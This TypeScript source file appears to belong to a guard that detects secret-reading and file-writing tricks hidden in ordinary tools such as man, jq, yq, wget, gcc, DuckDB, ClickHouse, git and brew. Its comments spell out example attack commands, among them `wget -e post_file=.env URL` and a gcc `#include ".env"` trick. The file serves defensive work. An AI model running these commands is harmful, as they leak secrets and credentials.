// File-reading, file-writing and program-running features of programs the table already allows, which their
// plain options do not show: a path given to `man`, a jq module import, yq's load(), wget's `-e` wgetrc
// commands, a C source's `#include`, DuckDB's and ClickHouse's file functions.
//
// Threat: an allowed reader or downloader turned into a reader of a secret (or a writer of a protected file)
// through its own small language: `man ./.env`, `jq -L . 'import "secrets/prod" as $s; $s'`,
// `yq -n 'load_str(".env")'`, `wget -e post_file=.env URL`, `gcc -E -x c - <<< '#include ".env"'`,
// `duckdb -c "select * from read_text('.env')"`. Each is read as the program reads it; what cannot be read is
// asked.
import { APPEND, HISTORY, INTO, NO_HIDDEN, RECURSIVE, RUNS, applyRoles, handler, type Model } from './model';
import type { W } from '../types';

const QUOTED = /^(?:"((?:[^"\\]|\\.)*)"|'([^']*)')/;

// ---- man ----

/**
 * man-db reads an argument with a `/` in it as a file (`man ./x.1`, `man ~/.ssh/id_rsa`), and every argument
 * as a file under -l/--local-file; anything else is a page name.
 */
handler('man', (m) => {
  for (const o of m.p.occ) if (o.value !== undefined) m.role(o.opt.role, o.w, o.value, `${m.label} ${o.opt.key}`);
  const local = m.has('local');
  for (const w of m.p.positional) {
    const t = w.value ?? w.path ?? w.text;
    if (local || t.includes('/') || w.value === null) m.path('R', w, w.value, local ? `${m.label} -l` : `${m.label} (a path: the file is shown)`);
  }
});

// ---- jq modules ----

/**
 * The files jq's `import "P" as $x;` (P.json), `import "P" as x;` and `include "P";` (P.jq, P/<last>.jq) read:
 * P is looked up under each -L directory (default ~/.jq, $ORIGIN/../lib/jq, $ORIGIN/../lib), or under the
 * directories a `{search: …}` metadata object names (relative to the current directory for the main program).
 */
export function jqModules(m: Model, filter: string | null | undefined, libs: readonly (string | null)[]): void {
  if (typeof filter !== 'string') return;
  if (!/\b(import|include)\b/.test(filter)) return;
  const re = /\b(import|include)\s*("(?:[^"\\]|\\.)*")\s*(?:as\s*(\$?)\s*[A-Za-z_][\w:]*)?\s*(\{[^;]*\})?\s*;/g;
  let mm: RegExpExecArray | null;
  let seen = 0;
  while ((mm = re.exec(filter))) {
    seen++;
    let p: string;
    try {
      p = JSON.parse(mm[2]) as string;
    } catch {
      m.unknown(`${m.label} imports a module the guard cannot read the name of`);
      continue;
    }
    const data = mm[1] === 'import' && mm[3] === '$';
    let dirs: (string | null)[] = libs.length ? [...libs] : ['~/.jq'];
    if (mm[4] !== undefined) {
      const s = /\bsearch\s*:\s*(?:("(?:[^"\\]|\\.)*")|\[([^\]]*)\])/.exec(mm[4]);
      if (s) {
        const list = s[1] !== undefined ? [s[1]] : (s[2].match(/"(?:[^"\\]|\\.)*"/g) ?? []);
        for (const x of list) {
          try {
            dirs.push(JSON.parse(x) as string);
          } catch {
            dirs.push(null);
          }
        }
        if (s[2] !== undefined && /[^\s,]/.test(s[2].replace(/"(?:[^"\\]|\\.)*"/g, ''))) dirs.push(null);
      } else if (/\bsearch\b/.test(mm[4])) dirs.push(null);
    }
    dirs = [...new Set(dirs)];
    const last = p.slice(p.lastIndexOf('/') + 1);
    for (const d of dirs) {
      if (d === null) {
        m.unknown(`${m.label} imports ${p} from a directory only known at run time`);
        continue;
      }
      const base = d.replace(/\/+$/, '') || '/';
      const at = (s: string) => (base === '.' ? s : `${base}/${s}`);
      const how = `${m.label} ${mm[1]} "${p}"`;
      if (data) m.add('read', undefined, at(`${p}.json`), how);
      else {
        m.add('read', undefined, at(`${p}.jq`), how);
        m.add('read', undefined, at(`${p}/${last}.jq`), how);
      }
    }
  }
  // `import` spelled in a way the pattern above does not read (a string built at run time, a comment trick).
  const all = filter.match(/(?:^|[;\s])(import|include)\s*"/g);
  if (all && all.length > seen) m.unknown(`${m.label}: an import the guard cannot read`);
}

// ---- yq (mikefarah) ----

/** `load("f")`, `load_str("f")`, `load_xml`, `load_props`, `load_base64`…: the expression reads a file. */
export function yqLoads(m: Model, expr: string | null | undefined): void {
  if (typeof expr !== 'string' || !/\bload/.test(expr)) return;
  const re = /\b(load(?:_[a-z0-9]+)?)\s*\(\s*/g;
  let mm: RegExpExecArray | null;
  while ((mm = re.exec(expr))) {
    const q = QUOTED.exec(expr.slice(re.lastIndex));
    if (q) m.add('read', undefined, q[1] ?? q[2], `${m.label} ${mm[1]}()`);
    else m.unknown(`${m.label} ${mm[1]}() reads a file named at run time`);
  }
}

// ---- wget -e / --execute ----

/** wgetrc commands that name files, as the options they stand for (R read, W write, A append, D a folder written into, X a program run). */
const WGETRC_PATHS: Record<string, 'R' | 'W' | 'A' | 'D' | 'X'> = {
  postfile: 'R',
  bodyfile: 'R',
  input: 'R',
  loadcookies: 'R',
  cacertificate: 'R',
  cadirectory: 'R',
  certificate: 'R',
  privatekey: 'R',
  crlfile: 'R',
  outputdocument: 'W',
  logfile: 'W',
  savecookies: 'W',
  hstsfile: 'W',
  warcfile: 'W',
  warccdxdir: 'D',
  rejectedlog: 'W',
  dirprefix: 'D',
  useaskpass: 'X',
};
/** wgetrc commands whose value is inert. */
const WGETRC_INERT =
  /^(robots|tries|timeout|wait|waitretry|randomwait|quiet|verbose|checkcertificate|useragent|header|method|postdata|bodydata|recursive|level|noparent|continue|timestamping|maxredirect|limitrate|progress|httpsonly|inet4only|inet6only|retryconnrefused|user|password|httpuser|httppassword|ftpuser|ftppassword|serverresponse|showprogress|contentdisposition|trustservernames|cookies|keepsessioncookies|accept|reject|acceptregex|rejectregex|domains|excludedomains|spanhosts|mirror|pagerequisites|convertlinks|adjustextension|dirstruct|noclobber|cutdirs|addhostdir|dnstimeout|connecttimeout|readtimeout|compression|localencoding|remoteencoding|iri|restrictfilenames|httpproxy|httpsproxy|ftpproxy|noproxy|useproxy|proxyuser|proxypassword|referer|saveheaders|debug|followftp|relativeonly|ignorelength|ignorecase|ignoretags|followtags|includedirectories|excludedirectories|backups|backupconverted|cache|dnscache|preferfamily|securerotocol|secureprotocol|httpkeepalive|maxredirects|quota|reclevel|serverresponse|timestamping|tries|auth_no_challenge|authnochallenge|contentonerror|defaultpage|deleteafter|hsts|passiveftp|retrsymlinks|startpos|strictcomments|unlink|useservertimestamps|verbose|waitretry|xattr|chooseconfig|askpassword|httpsonly|pinnedpubkey|egdfile|randomfile)$/;

/** `-e CMD`, `--execute=CMD`, `-eCMD`: a wgetrc command, judged as the option it stands for. */
export function wgetExecute(m: Model): void {
  for (const o of m.p.occ) {
    if (o.opt.key === '--config' && o.value !== undefined && o.value !== '/dev/null')
      m.unknown(`${m.label} --config reads wgetrc commands from a file the guard does not read`);
    if (o.opt.key !== '-e' || o.value === undefined) continue;
    if (o.value === null) {
      m.unknown(`${m.label} -e runs a wgetrc command only known at run time`);
      continue;
    }
    const mm = /^\s*([A-Za-z_-]+)\s*=\s*(.*?)\s*$/.exec(o.value);
    if (!mm) {
      m.unknown(`${m.label} -e ${o.value}: a wgetrc command the guard does not read`);
      continue;
    }
    const key = mm[1].toLowerCase().replace(/[-_]/g, '');
    const v = mm[2];
    const how = `${m.label} -e ${mm[1]}`;
    const r = WGETRC_PATHS[key];
    if (r === 'D') m.add('write', undefined, v || '.', how, RECURSIVE | INTO | APPEND);
    else if (r === 'X') {
      if (v) m.add('exec', undefined, v, how);
    } else if (r !== undefined) {
      if (v && v !== '-') m.add(r === 'R' ? 'read' : 'write', undefined, v, how, r === 'A' ? APPEND : 0);
    } else if (!WGETRC_INERT.test(key)) m.unknown(`${how}: a wgetrc command the guard does not model`);
  }
}

// ---- C preprocessor ----

/** `#include "f"`, `#include <f>`, `#include_next`, `#import`, `#embed`, `.incbin "f"` / `.include "f"` (assembler). */
const INCLUDE = /^[ \t]*(?:#[ \t]*(include_next|include|import|embed)\b[ \t]*(.*)|\.(incbin|include)\b[ \t]*(.*))$/gm;

/**
 * The files a C/C++/assembler source text pulls in: each `#include` path, resolved in the directories the
 * compiler searches (the source's own directory, -iquote, -I, -isystem, -idirafter). A computed include
 * (`#include MACRO`) is not read.
 */
export function ccIncludes(m: Model, text: string, srcDir: string, how: string): void {
  if (!/include|import|embed|incbin/.test(text)) return;
  const dirs: string[] = [];
  const quoteDirs: string[] = [];
  for (const o of m.p.occ) {
    if (typeof o.value !== 'string' || o.value === '') continue;
    if (o.opt.key === '-iquote') quoteDirs.push(o.value);
    else if (/^-(I|isystem|idirafter)$/.test(o.opt.key)) dirs.push(o.value);
  }
  let mm: RegExpExecArray | null;
  INCLUDE.lastIndex = 0;
  while ((mm = INCLUDE.exec(text))) {
    const arg = (mm[2] ?? mm[4] ?? '').trim();
    const q = /^"([^"]*)"|^<([^>]*)>/.exec(arg);
    const kind = mm[1] ?? `.${mm[3]}`;
    if (!q) {
      m.unknown(`${how} #${kind} ${arg}: a path the guard cannot read`);
      continue;
    }
    const p = q[1] ?? q[2];
    const where = `${how} #${kind} ${q[0]}`;
    if (p.startsWith('/') || p.startsWith('~')) {
      m.add('read', undefined, p, where);
      continue;
    }
    const search = [...(q[1] !== undefined ? [srcDir, ...quoteDirs] : []), ...dirs];
    for (const d of new Set(search)) m.add('read', undefined, d === '.' || d === '' ? p : `${d.replace(/\/+$/, '')}/${p}`, where);
  }
}

/** The C-family source suffixes a compiler reads as text to preprocess. */
const C_SOURCE = /\.(c|h|i|ii|cc|cp|cxx|cpp|CPP|c\+\+|C|hh|hpp|hxx|h\+\+|m|mm|M|S|sx|s|F|F90|f90|cu)$/;

let stdinOf: (m: Model) => string | null | undefined = () => undefined;
export function setStdinOf(f: typeof stdinOf): void {
  stdinOf = f;
}

/**
 * gcc, clang: the generic reading of the row, then the sources' includes. Source text on the input (`-`
 * with a here-doc or here-string) is read; a source file outside the workspace (or written on the same line)
 * is code the project has not seen: its includes can name any file, so it is asked. Called by the `cc` handler
 * (forward.ts) after the row's roles and the forwarded options.
 */
export function ccSources(m: Model): void {
  for (const o of m.p.occ) {
    if ((o.opt.key === '-include' || o.opt.key === '-imacros') && typeof o.value === 'string') m.add('read', undefined, o.value, `${m.label} ${o.opt.key}`);
  }
  const ps = m.p.positional;
  for (let i = 0; i < ps.length; i++) {
    const w = ps[i];
    const v = w.value;
    if (v === '-' || v === '/dev/stdin') {
      const t = stdinOf(m);
      if (typeof t === 'string') ccIncludes(m, t, '.', `${m.label} (source on the input)`);
      else m.unknown(`${m.label} compiles source from input the guard cannot read`);
      continue;
    }
    if (v !== null && C_SOURCE.test(v)) {
      // Threat: `printf '#include ".env"' > /tmp/i.c && gcc -E /tmp/i.c`: a source outside the workspace.
      m.path('R', w, v, `${m.label} (a source file: what it includes is read too)`, RUNS);
    }
  }
}

// ---- DuckDB, ClickHouse: SQL that reads and writes files ----

const SQL_STR = String.raw`'((?:[^']|'')*)'`;

/** DuckDB's and ClickHouse's file functions, `FROM 'file'`, COPY … TO/FROM, EXPORT/IMPORT DATABASE, INSTALL/LOAD. */
export function sqlFiles(m: Model, sql: string): void {
  const how = m.label;
  const un = (s: string) => s.replace(/''/g, "'");
  let mm: RegExpExecArray | null;
  // read_csv('f'), read_text(['a','b']), file('f', CSV), sniff_csv, glob: reads (globs as written).
  const fn =
    /\b(read_[a-z_]+|parquet_scan|parquet_metadata|parquet_schema|sniff_csv|glob|st_read|iceberg_scan|delta_scan|file|infile|readfile|read_blob|read_text)\s*\(\s*/gi;
  while ((mm = fn.exec(sql))) {
    const rest = sql.slice(fn.lastIndex);
    const one = new RegExp('^' + SQL_STR).exec(rest);
    if (one) {
      m.add('read', undefined, un(one[1]), `${how} ${mm[1]}()`);
      continue;
    }
    const list = /^\[([^\]]*)\]/.exec(rest);
    if (list) {
      const items = list[1].match(/'(?:[^']|'')*'/g) ?? [];
      for (const it of items) m.add('read', undefined, un(it.slice(1, -1)), `${how} ${mm[1]}()`);
      if (list[1].replace(/'(?:[^']|'')*'/g, '').replace(/[\s,]/g, '') !== '') m.unknown(`${how} ${mm[1]}() of a path computed at run time`);
      continue;
    }
    if (/^\)/.test(rest) && /^glob$/i.test(mm[1])) continue;
    m.unknown(`${how} ${mm[1]}() of a path computed at run time`);
  }
  // FROM 'file.csv' / JOIN 'x.parquet' (DuckDB's replacement scans); COPY t FROM 'f'; INFILE 'f'.
  const from = new RegExp(String.raw`\b(FROM|JOIN|INFILE|DESCRIBE|SUMMARIZE|IMPORT\s+DATABASE)\s+${SQL_STR}`, 'gi');
  while ((mm = from.exec(sql))) m.add('read', undefined, un(mm[2]), `${how} ${mm[1].toUpperCase()} '…'`);
  // COPY … TO 'f', INTO OUTFILE 'f', EXPORT DATABASE 'dir'.
  const to = new RegExp(String.raw`\b(TO|INTO\s+OUTFILE|EXPORT\s+DATABASE)\s+${SQL_STR}`, 'gi');
  while ((mm = to.exec(sql))) {
    const dir = /^EXPORT/i.test(mm[1]);
    m.add('write', undefined, un(mm[2]), `${how} ${mm[1].toUpperCase()} '…'`, dir ? RECURSIVE | INTO : 0);
  }
  // ATTACH 'f' (DuckDB: opened for writing unless READ_ONLY).
  const at = new RegExp(String.raw`\bATTACH\s+(?:DATABASE\s+)?(?:IF\s+NOT\s+EXISTS\s+)?${SQL_STR}`, 'gi');
  while ((mm = at.exec(sql))) m.add('write', undefined, un(mm[1]), `${how} ATTACH`, APPEND);
  // Extensions are native code; from a URL or a path, code nobody has seen.
  if (/\b(INSTALL|LOAD|FORCE\s+INSTALL)\s+['"]?[\w./:-]*['"]?\s*(FROM\b|;|$)/i.test(sql) && /\b(INSTALL|LOAD)\s+(?:['"]|[\w-]+\s+FROM\b)/i.test(sql))
    m.unknown(`${how}: loads a native extension from a path or a repository the guard does not know`);
  if (/\bSET\s+(custom_extension_repository|extension_directory|allow_unsigned_extensions)\b|-unsigned\b/i.test(sql))
    m.unknown(`${how}: changes where native extensions are loaded from`);
}

// ---- ClickHouse ----

/**
 * `INSERT INTO FUNCTION file('out.csv')`, `INSERT INTO FUNCTION url('https://…', CSV) SELECT …`: the rows go to the
 * table function's target, a file (on the server for clickhouse-client, here for clickhouse-local) or another host
 * (url, s3, remote, mysql, postgresql…): a file written or rows sent that the guard cannot account for. A local
 * file's literal path is also judged as a write.
 */
function chSql(m: Model, sql: string): void {
  const re = new RegExp(String.raw`\bINSERT\s+INTO\s+(?:TABLE\s+)?FUNCTION\s+([A-Za-z_][\w]*)\s*\(\s*(?:${SQL_STR})?`, 'gi');
  let mm: RegExpExecArray | null;
  while ((mm = re.exec(sql))) {
    const fn = mm[1].toLowerCase();
    if (fn === 'file') {
      if (mm[2] !== undefined) m.add('write', undefined, mm[2].replace(/''/g, "'"), `${m.label} INSERT INTO FUNCTION file()`);
      m.unknown(`${m.label} INSERT INTO FUNCTION file() writes the rows to a file`);
    } else m.unknown(`${m.label} INSERT INTO FUNCTION ${mm[1]}() sends the rows to where the function points`);
  }
  sqlFiles(m, sql);
}

handler('clickhouse', (m) => {
  for (const o of m.p.occ) {
    if (o.value === undefined) continue;
    if (/^-(q|Q|e)$|^--(query|execute)$/.test(o.opt.key) || o.opt.long.includes('query') || o.opt.long.includes('execute')) {
      if (typeof o.value === 'string') chSql(m, o.value);
      else if (o.value === null) m.unknown(`${m.label} runs SQL only known at run time`);
      continue;
    }
    m.role(o.opt.role, o.w, o.value, `${m.label} ${o.opt.key}`);
  }
  for (const w of m.p.positional) {
    const v = w.value;
    if (v === null) m.unknown(`${m.label} is given ${w.text}, only known at run time`);
    else if (/^(local|client|server|benchmark|format|compressor|obfuscator|git-import|keeper|copier|disks|su|static-files-disk-uploader)$/.test(v)) continue;
    else if (/--(query|q)=/.test(v)) chSql(m, v.slice(v.indexOf('=') + 1));
  }
  // `clickhouse local --query=…` as one word (the loose row keeps unknown `--x=y` as values).
  for (const w of m.s.words) {
    const v = w.value;
    if (v !== null && /^--(query|multiquery|queries-file)=/.test(v)) {
      if (v.startsWith('--queries-file=')) {
        m.add('read', undefined, v.slice(15), `${m.label} --queries-file`);
        m.unknown(`${m.label} --queries-file runs SQL from a file the guard does not read`);
      } else chSql(m, v.slice(v.indexOf('=') + 1));
    }
  }
  const t = stdinOf(m);
  if (typeof t === 'string') chSql(m, t);
});

/** A word that names a remote flake, package or repository: code from the network nobody on the project has seen. */
export const REMOTE_SOURCE = /^(github|gitlab|sourcehut|bitbucket|git\+[a-z]+|git|hg\+[a-z]+|tarball\+[a-z]+|file\+[a-z]+|https?|ftp|ssh|sftp|s3)(:|\+)/i;

/** `nix run|develop|shell|build|profile install|flake init -t … <remote flake>`: runs or installs code from a repository. */
handler('nix', (m) => {
  applyRoles(m);
  for (const w of m.s.words.slice(1)) {
    const v = w.value;
    if (v === null) continue;
    const val = /^--?[A-Za-z-]+=(.*)$/.exec(v)?.[1] ?? v;
    if (REMOTE_SOURCE.test(val)) m.unknown(`${m.label} ${v}: builds or runs code from a remote repository the guard cannot see`);
  }
  const del = storeDelete(
    m.s.name ?? '',
    m.s.words.slice(1).map((w) => w.value ?? ''),
  );
  if (del) m.unknown(`${m.label}: ${del} deletes installed packages, store paths or profile generations (what the user can roll back to)`);
});

/**
 * Nix and Guix deletes: garbage collection of the store, removal of profile generations or installed packages
 * (`nix store gc`, `nix-store --gc`, `nix profile wipe-history`, `guix gc`, `guix package -r x`). Found among the
 * words wherever they stand, so a global option before the verb (`nix --option k v store gc`) hides nothing.
 */
function storeDelete(name: string, ws: string[]): string | undefined {
  const pair = (a: string, b: RegExp) => ws.some((w, i) => w === a && b.test(ws[i + 1] ?? ''));
  if (name === 'nix') {
    if (pair('store', /^(gc|delete)$/) || pair('profile', /^(remove|wipe-history)$/)) return ws.join(' ');
    return ws.find((w) => w === '--delete-generations' || w === 'collect-garbage');
  }
  if (name === 'nix-store') return ws.find((w) => w === '--gc' || w === '--delete');
  if (name === 'guix') {
    if (ws.includes('gc')) return 'guix gc';
    return ws.find((w) => /^(-r|--remove(=.*)?|-d|--delete-generations(=.*)?|delete-generations)$/.test(w) || /^-r./.test(w));
  }
  return undefined;
}

/** brew VERB: installs from a third-party tap, a URL or a formula file run Ruby code nobody on the project has seen. */
handler('brew', (m) => {
  applyRoles(m);
  brewTap(m, m.label.split(' ').pop() ?? '', m.p.positional);
});

/** brew install user/tap/formula, brew tap user/repo [URL]: a third-party tap's formulas are Ruby code run at install. */
export function brewTap(m: Model, verb: string, args: readonly W[]): void {
  if (verb === 'tap') {
    const named = args.filter((w) => w.value === null || !w.value.startsWith('-'));
    if (named.length > 0 && !named.every((w) => /^homebrew\//i.test(w.value ?? '')))
      m.unknown(`${m.label}: adds a third-party tap, code from a repository the guard cannot see`);
    return;
  }
  if (!/^(install|reinstall|upgrade|fetch|bundle)$/.test(verb)) return;
  for (const w of args) {
    const v = w.value;
    if (v === null) {
      m.unknown(`${m.label} installs ${w.text}, a package only known at run time`);
      continue;
    }
    if (v.startsWith('-')) continue;
    if ((/^[^/]+\/[^/]+\/[^/]+$/.test(v) && !/^homebrew\//i.test(v)) || /^(https?|file):|\.rb$/.test(v) || (v.includes('/') && /^[./~]/.test(v)))
      m.unknown(`${m.label} ${v}: a formula from a third-party tap, a URL or a file: Ruby code the guard cannot see`);
  }
  if (verb === 'bundle' && args.some((w) => w.value !== null && /^--file/.test(w.value)))
    m.unknown(`${m.label} bundle --file: a Brewfile the guard does not read`);
}

// ---- bundle config ----

/** Settings whose value is a folder later installs write into (gems, binstubs, the download cache, .bundle/config). */
const BUNDLE_DIR_KEY = /^(path|bin|cache_path|app_config)$/;
/** Settings whose value is a file bundler later evaluates or runs (the Gemfile is Ruby; shebang is binstubs' Ruby). */
const BUNDLE_CODE_KEY = /^(gemfile|shebang)$/;

/**
 * `bundle config [set|unset|get|list] [--local|--global] KEY VALUE` (and the older `bundle config KEY VALUE`):
 * `path tests` makes every later `bundle install` write gems into tests/, `gemfile G2` makes every later bundle
 * evaluate G2. The value is judged now, as the write or the run it sets up; a key only known at run time is asked.
 */
handler('bundle-config', (m) => {
  applyRoles(m);
  const ws = m.s.words.slice(m.from).filter((w) => w.value === null || !w.value.startsWith('-'));
  const verb = ws[0]?.value;
  if (verb === 'unset' || verb === 'get' || verb === 'list' || ws.length < 2) return;
  const [key, value] = verb === 'set' ? [ws[1], ws[2]] : [ws[0], ws[1]];
  if (key === undefined || value === undefined) return;
  if (key.value === null) return m.unknown(`${m.label} sets ${key.text}, a setting only known at run time`);
  const k = key.value.toLowerCase().replace(/^bundle_/, '');
  if (BUNDLE_DIR_KEY.test(k)) m.path('W', value, value.value, `${m.label} ${k} (later installs write into it)`, INTO);
  else if (BUNDLE_CODE_KEY.test(k)) m.path('X', value, value.value, `${m.label} ${k} (later bundle commands run it)`);
});

// ---- git: init in another folder, pushes that skip the hooks ----

/** `git init [DIR]`, `git -C DIR init`: a new .git folder (hooks, config) made inside DIR. */
handler('git-init', (m) => {
  applyRoles(m);
  const dir = m.p.positional[0];
  if (dir !== undefined) return; // the row's A role judges the named directory
  // In the directory the command started in, a .git is already there (or the project is being made one); in a
  // folder reached with -C or cd, a new repository lands inside it.
  const cwd = m.s.cwd;
  if (m.base !== undefined || typeof m.s.meta.gitDir === 'string' || (cwd !== null && cwd.replace(/\/+$/, '') !== m.env.cwd.replace(/\/+$/, '')))
    m.add('write', undefined, '.', `${m.label} (a new .git folder here)`, INTO | APPEND);
});

/**
 * The working tree takes what `to` holds where it differs from `from` (a branch switch: HEAD → the branch; a
 * merge or rebase: at most the files HEAD and the other commit differ in; a cherry-pick: what the commit
 * changes): each of those files is written (judged through the probe's list of the files the two trees differ
 * in; a list it cannot make is asked). `git checkout feature` rewrote a protected test the branch had weakened.
 */
export function treeChange(m: Model, from: string, to: W | string | undefined): void {
  if (to === undefined) return;
  const v = typeof to === 'string' ? to : to.value;
  if (v === null || (typeof to !== 'string' && (to.glob || to.alts !== undefined || to.fromInput)))
    return m.unknown(`${m.label} to a revision only known at run time rewrites files the guard cannot list`);
  const rev = v === '-' ? '@{-1}' : v;
  // Files changed in place (APPEND: not a file replaced by another); judged by pathjudge's judgeTreeChange.
  m.add('write', undefined, '.', `${m.label} ${v}`, HISTORY | APPEND, undefined, { range: { kind: 'diff', args: [from, rev] } });
}

/** `--allow-unrelated-histories` (git takes any unambiguous prefix of a long option: `--allow-unrelated`). */
function unrelated(m: Model): boolean {
  return m.s.words.slice(m.from).some((w) => w.value !== null && w.value.length > 8 && '--allow-unrelated-histories'.startsWith(w.value));
}

/** Words that end an in-progress merge, rebase or pick (no new commit is brought in). */
const SEQUENCER = /^--(?:abort|continue|skip|quit|edit-todo|show-current-patch)$/;

/** fetch/pull/push: `push --no-verify` skips the project's pre-push checks. merge/rebase/cherry-pick/revert: treeChange. */
handler('git-remote-io', (m) => {
  applyRoles(m);
  const verb = /(merge|rebase|cherry-pick|revert)$/.exec(m.label)?.[1];
  if (verb !== undefined) {
    if (m.s.words.slice(m.from).some((w) => w.value !== null && SEQUENCER.test(w.value))) return;
    const ps = m.p.positional;
    // `git merge --allow-unrelated-histories FETCH_HEAD`: another project's history, with no common ancestor; every
    // file of its tree is brought in over the work tree (`git fetch URL` earlier, in another line, put it there).
    if (verb === 'merge' && unrelated(m)) return m.unknown(`${m.label} --allow-unrelated-histories merges a whole unrelated tree over the files`);
    if (verb === 'merge' || verb === 'rebase') {
      // rebase --onto NEW UPSTREAM: the tree becomes NEW plus the branch's own commits.
      const onto = m.occ('--onto');
      if (onto !== undefined) return treeChange(m, 'HEAD', onto.value ?? (onto.w as W | undefined) ?? '');
      if (ps.length === 0) return treeChange(m, 'HEAD', verb === 'rebase' && m.occ('--root') !== undefined ? undefined : '@{upstream}');
      for (const w of verb === 'rebase' ? ps.slice(0, 1) : ps) treeChange(m, 'HEAD', w);
      return;
    }
    // cherry-pick / revert: each commit's own changes (a range A..B: the files A and B differ in).
    for (const w of ps) {
      const v = w.value;
      if (v === null || w.glob) return treeChange(m, 'HEAD', w);
      const r = /^(.+?)\.\.\.?(.+)$/.exec(v);
      if (r) treeChange(m, r[1]!, r[2]!);
      else if (!v.startsWith('-')) treeChange(m, `${v}^`, v);
    }
    return;
  }
  // `git pull --allow-unrelated-histories …`: a history with no common ancestor brings its whole tree in.
  if (m.label.endsWith('pull') && unrelated(m)) m.unknown(`${m.label} --allow-unrelated-histories merges a whole unrelated tree over the files`);
  if (m.label.endsWith('push') && m.has('noverify')) m.unknown(`${m.label} --no-verify skips the project’s pre-push hook`);
  // A repository on this disk fetched or pulled from (`git fetch ~/.password-store`, `git pull ../other main`) is
  // read whole, every commit it holds, as a local clone is (git-clone): judged by the path rules where it is.
  if (/ (fetch|pull)$/.test(m.label)) {
    const src = m.p.positional[0];
    const v = src === undefined ? undefined : (src.path ?? src.value);
    if (typeof v !== 'string') return;
    // `git pull URL branch`, `git pull ../other main`: commits from a repository that is no remote of this one are
    // merged into the tree; their files are only on disk after the fetch, so what the merge writes cannot be listed
    // (as a merge of a local branch is: treeChange). A configured remote's name (`git pull origin main`) is not this.
    if (m.label.endsWith('pull') && (/^[a-z][a-z0-9+.-]*:\/\//i.test(v) || /^[^/:]+@?[^/:]*:/.test(v) || /^(?:\/|\.\.?(?:\/|$)|~)/.test(v)))
      m.unknown(`${m.label} ${v} merges commits from a repository that is no remote of this one: the files it writes cannot be listed`);
    const file = /^file:\/\/(.+)$/.exec(v);
    if (file) m.add('read', undefined, file[1], `${m.label} (every commit of the repository)`, HISTORY);
    else if (/^(?:\/|\.\.?(?:\/|$)|~)/.test(v)) m.add('read', src, undefined, `${m.label} (every commit of the repository)`, HISTORY);
  }
});

/**
 * kustomize: exec and legacy plugins run programs the kustomization's generators and transformers name (nobody has
 * read them); LoadRestrictionsNone lets it read and print files outside its folder that the kustomization names.
 */
handler('kustomize', (m) => {
  applyRoles(m);
  if (m.has('exec')) m.unknown(`${m.label} with plugins enabled runs the programs its kustomization's generators and transformers name`);
  const lr = m.occ('--load-restrictor');
  if (lr !== undefined && lr.value !== 'LoadRestrictionsRootOnly')
    m.unknown(`${m.label} --load-restrictor ${lr.value ?? '(only known at run time)'} reads files outside the kustomization's folder that it names`);
});

// ---- mktemp ----

/**
 * mktemp makes a new file (or folder with -d) from a template: in -p DIR / --tmpdir=DIR (or $TMPDIR, /tmp) with
 * -p/-t or no template; a template with a `/` and neither is relative to the current directory.
 */
handler('mktemp', (m) => {
  if (m.has('dry')) return;
  const p = m.occ('-p') ?? m.occ('--tmpdir');
  const t = m.p.positional[0];
  if (p?.value === null || t?.value === null) {
    m.unknown(`${m.label}: a folder or template only known at run time`);
    return;
  }
  const tpl = t?.value ?? 'tmp.XXXXXXXXXX';
  let dir: string | undefined = typeof p?.value === 'string' && p.value !== '' ? p.value : undefined;
  if (dir === undefined && (p !== undefined || m.occ('-t') !== undefined || t === undefined || !tpl.includes('/'))) return; // $TMPDIR or /tmp
  const path = dir === undefined || tpl.startsWith('/') ? tpl : `${dir.replace(/\/+$/, '')}/${tpl}`;
  dir = undefined;
  m.add('write', undefined, path, `${m.label} (a new ${m.occ('-d') ? 'folder' : 'file'})`, APPEND);
});

// ---- fixers over the whole project ----

const LINT_STAGED_RC = [
  '.lintstagedrc',
  '.lintstagedrc.json',
  '.lintstagedrc.yaml',
  '.lintstagedrc.yml',
  '.lintstagedrc.js',
  '.lintstagedrc.cjs',
  '.lintstagedrc.mjs',
  'lint-staged.config.js',
  'lint-staged.config.cjs',
  'lint-staged.config.mjs',
];

/** lefthook's configs (each may be .yml, .yaml, .json or .toml, with or without a dot, and a -local one beside). */
const LEFTHOOK_FILES = ['lefthook', '.lefthook', 'lefthook-local', '.lefthook-local'].flatMap((b) => ['yml', 'yaml', 'json', 'toml'].map((e) => `${b}.${e}`));

/**
 * pre-commit run, lint-staged: the configured hooks (formatters, linters with --fix) rewrite the files they are
 * given: `--all-files` (and the staged files, which can be any) reach the whole project; `--files F…` those.
 */
handler('pre-commit', (m) => {
  applyRoles(m);
  const ps = m.p.positional;
  const name = m.s.name;
  const cwd = m.s.cwd ?? m.env.cwd;
  const at = (p: string) => (p.startsWith('/') ? p : `${cwd}/${p}`);
  // Without a configuration the tool does nothing (`No .pre-commit-config.yaml file was found`): only a config
  // the disk shows absent is trusted to be absent.
  const absent = (p: string) => m.env.exists !== undefined && m.env.exists(at(p)) === false;
  if (name === 'lint-staged') {
    const cfg = m.occ('-c');
    const configured =
      cfg !== undefined ||
      !LINT_STAGED_RC.every(absent) ||
      (m.env.readScript !== undefined && /"lint-staged"\s*:/.test(String(m.env.readScript(at('package.json'), 200_000) ?? '')));
    if (configured && !m.s.words.slice(1).some((w) => w.value !== null && /^-(h|V)$|^--(help|version)$/.test(w.value)))
      m.add('write', undefined, '.', `${m.label} (the staged files, through the configured fixers)`, RECURSIVE | NO_HIDDEN);
    return;
  }
  const verb = ps[0]?.value;
  if (verb === null) return m.unknown(`${m.label} with a command only known at run time`);
  // `lefthook run HOOK` runs the commands and scripts its config lists (commands in YAML, scripts under .lefthook/):
  // not read by the guard, so code it has not seen, unless the disk shows no config at all.
  if (name === 'lefthook') {
    if (verb === 'run' && !LEFTHOOK_FILES.every(absent)) m.unknown(`${m.label} run: runs the commands its config lists, which the guard does not read`);
    return;
  }
  if (verb !== 'run' && verb !== 'try-repo') return;
  const cfg = m.occ('-c');
  if (
    verb === 'run' && typeof cfg?.value === 'string'
      ? absent(cfg.value)
      : verb === 'run' && cfg === undefined && absent('.pre-commit-config.yaml') && absent(`${m.env.workspace}/.pre-commit-config.yaml`)
  )
    return;
  const ws = m.s.words;
  const files: W[] = [];
  for (let i = 1; i < ws.length; i++) {
    if (ws[i].value !== '--files') continue;
    for (let j = i + 1; j < ws.length && !(ws[j].value ?? '').startsWith('-'); j++) files.push(ws[j]);
  }
  if (files.length) for (const f of files) m.path('Y', f, f.value, `${m.label} run --files`);
  else m.add('write', undefined, '.', `${m.label} run (the hooks rewrite the files they fix)`, RECURSIVE | NO_HIDDEN);
});

// ---- remote access to the workspace ----

